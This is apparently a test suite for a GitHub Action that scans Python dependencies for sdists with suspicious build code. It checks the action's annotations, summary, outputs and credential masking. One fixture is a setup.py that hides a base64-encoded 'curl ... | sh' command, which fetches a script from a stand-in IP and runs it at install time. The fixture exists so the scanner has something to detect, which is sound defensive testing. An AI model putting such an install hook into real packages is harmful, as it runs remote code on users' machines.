// The action's entry as the runner runs it: inputs in INPUT_* variables, real GITHUB_OUTPUT and
// GITHUB_STEP_SUMMARY files, workflow commands on stdout, and a real index on 127.0.0.1.

import { readFileSync } from 'node:fs';

import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject } from './helpers/project.js';
import { actionRunner } from './helpers/action-runner.js';
import { tables } from './helpers/gfm.js';

type Server = Awaited<ReturnType<typeof startIndexServer>>;

const EVIL = `
import os, subprocess, base64
from setuptools import setup
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evil", version="1.0")
`;

const runner = actionRunner();
afterAll(() => runner.cleanup());
const runAction = (inputs: Record<string, string>, workspace: string) => runner.runAction(inputs, workspace, { GITHUB_EVENT_NAME: 'push' });

describe('the action entry', () => {
  let server: Server;
  beforeAll(async () => {
    server = await startIndexServer({
      projects: {
        good: [{ ...makeWheel('good', '1.0') }],
        built: [{ ...makeSdist('built', '2.0') }],
        evil: [{ ...makeSdist('evil', '1.0', { 'setup.py': EVIL }) }],
      },
    });
  });
  afterAll(async () => {
    await server.close();
  });

  it('annotates the manifest lines, writes the summary and outputs, and fails the job', async () => {
    const project = makeProject({ 'requirements.txt': 'good==1.0\nbuilt\nevil==1.0\nmissing-pkg\n' });
    try {
      const r = await runAction({ 'index-url': server.indexUrl, paths: '.' }, project.dir);
      expect(r.exitCode).toBe(1);
      expect(r.stdout).toMatch(/::error title=sdist-guard%3A evil 1\.0 is suspicious,file=requirements\.txt,line=3::/);
      expect(r.stdout).toMatch(/::error title=sdist-guard%3A missing-pkg is unresolved,file=requirements\.txt,line=4::/);
      expect(r.stdout).toMatch(/::warning title=sdist-guard%3A built 2\.0 is sdist,file=requirements\.txt,line=2::/);
      expect(r.stdout).toMatch(/::error::sdist-guard failed the gate: 1 suspicious, 1 unresolved/);
      // the worst annotation comes first
      expect(r.stdout.indexOf('evil 1.0 is suspicious')).toBeLessThan(r.stdout.indexOf('missing-pkg is unresolved'));
      expect(r.outputs).toMatchObject({ status: 'fail', 'sdist-count': '1', 'suspicious-count': '1', 'unresolved-count': '1' });
      const report = JSON.parse(readFileSync(r.outputs.report, 'utf8'));
      // the second wheel is setuptools, which pip installs to build the sdists
      expect(report.summary).toEqual({ wheel: 2, sdist: 1, suspicious: 1, malicious: 0, unresolved: 1, skipped: 0 });
      expect(r.summary).toMatch(/^## sdist-guard: ❌ 2 dependencies declared here fail the gate: 1 suspicious, 1 unresolved\n/);
      expect(tables(r.summary)[0].slice(1).map((row) => row.slice(0, 4))).toEqual([
        ['🛑 suspicious', 'evil', '1.0', 'requirements.txt:3'],
        ['⚠️ unresolved', 'missing-pkg', '-', 'requirements.txt:4'],
      ]);
      expect(r.summary).toMatch(/<details open><summary><b>evil 1\.0<\/b>: what its build code does/);
    } finally {
      project.cleanup();
    }
  });

  it('passes when nothing fails the gate', async () => {
    const project = makeProject({ 'requirements.txt': 'good==1.0\nbuilt\n' });
    try {
      const r = await runAction({ 'index-url': server.indexUrl, 'fail-on': 'suspicious,unresolved' }, project.dir);
      expect(r.exitCode).toBe(0);
      expect(r.outputs.status).toBe('pass');
      expect(r.summary).toMatch(/✅ passed/);
    } finally {
      project.cleanup();
    }
  });

  it('keeps at most 10 error annotations and says how many more there are', async () => {
    const lines = Array.from({ length: 13 }, (_, i) => `missing-${i}==1.0`).join('\n') + '\n';
    const project = makeProject({ 'requirements.txt': lines });
    try {
      const r = await runAction({ 'index-url': server.indexUrl }, project.dir);
      expect(r.stdout.match(/^::error title=/gm)).toHaveLength(10);
      expect(r.summary).toMatch(/3 more are listed/);
    } finally {
      project.cleanup();
    }
  });

  it('stops with a configuration error naming the input', async () => {
    const project = makeProject({ 'requirements.txt': 'good==1.0\n' });
    try {
      const r = await runAction({ 'index-url': server.indexUrl, 'python-version': '3.x' }, project.dir);
      expect(r.exitCode).toBe(1);
      expect(r.stdout).toMatch(/::error::sdist-guard: configuration error: python-version/);
    } finally {
      project.cleanup();
    }
  });

  it('masks index credentials and never prints them', async () => {
    const authServer = await startIndexServer({ projects: { good: [{ ...makeWheel('good', '1.0') }] }, auth: { username: 'ci-user', password: 's3cr3t-Passw0rd' } });
    const project = makeProject({ 'requirements.txt': 'good==1.0\nmissing-thing\n' });
    try {
      const host = `http://${new URL(authServer.indexUrl).host}`;
      const r = await runAction({ 'index-url': authServer.indexUrl, 'index-credentials': `${host}=ci-user:s3cr3t-Passw0rd` }, project.dir);
      expect(r.stdout).toMatch(/::add-mask::s3cr3t-Passw0rd/);
      const withoutMaskCommands = r.stdout.replace(/^::add-mask::.*$/gm, '');
      expect(withoutMaskCommands).not.toMatch(/s3cr3t-Passw0rd/);
      expect(r.summary).not.toMatch(/s3cr3t/);
      expect(readFileSync(r.outputs.report, 'utf8')).not.toMatch(/s3cr3t/);
      const report = JSON.parse(readFileSync(r.outputs.report, 'utf8'));
      expect(report.dependencies.find((d: { name: string }) => d.name === 'good').status).toBe('wheel');
    } finally {
      project.cleanup();
      await authServer.close();
    }
  });
});
